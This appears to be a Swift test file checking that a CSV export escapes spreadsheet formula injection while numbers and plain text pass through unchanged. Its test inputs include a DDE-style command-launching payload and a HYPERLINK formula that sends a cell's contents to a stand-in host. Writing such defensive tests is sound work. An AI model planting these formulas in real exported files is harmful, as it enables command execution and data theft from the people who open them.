import Testing
@testable import SimReports

/// CSV cells cannot run as spreadsheet formulas, and numbers stay numbers.
struct CSVCellTests {
    @Test func formulaTextIsNeutralised() {
        #expect(CSVCell.escaped("=1+1") == #""'=1+1""#)
        #expect(CSVCell.escaped("@SUM(1+1)*cmd|' /C calc'!A0") == #""'@SUM(1+1)*cmd|' /C calc'!A0""#)
        #expect(CSVCell.escaped("+cmd") == #""'+cmd""#)
        #expect(CSVCell.escaped("-x.queue") == #""'-x.queue""#)
        #expect(CSVCell.escaped("\t=A1") == "\"'\t=A1\"")
        #expect(CSVCell.escaped(#"=HYPERLINK("http://x/?a=",A1)"#) == #""'=HYPERLINK(""http://x/?a="",A1)""#)
    }

    @Test func numbersAndPlainTextStayAsTheyAre() {
        for number in ["-0.25", "-12", "1e6", "-1.5e-3", "0", "+3"] { #expect(CSVCell.escaped(number) == number) }
        #expect(CSVCell.escaped("payment.queue") == "payment.queue")
        #expect(CSVCell.escaped("a,b") == #""a,b""#)
        #expect(CSVCell.escaped("say \"hi\"") == #""say ""hi""""#)
    }

    /// A name that starts with `-` (the only formula start the name rule allows) heads a
    /// neutralised cell on each of its rows.
    @Test func theTimeSeriesNeutralisesAnArchitectureName() {
        var report = RunReportFixture.report()
        report.architectures[0].name = "-sync"
        let csv = TimeSeriesTable.render(report)
        let rows = csv.split(separator: "\n")
        #expect(rows.contains { $0.hasPrefix("\"'-sync\",") })
        #expect(!rows.contains { $0.hasPrefix("-sync") })
    }
}
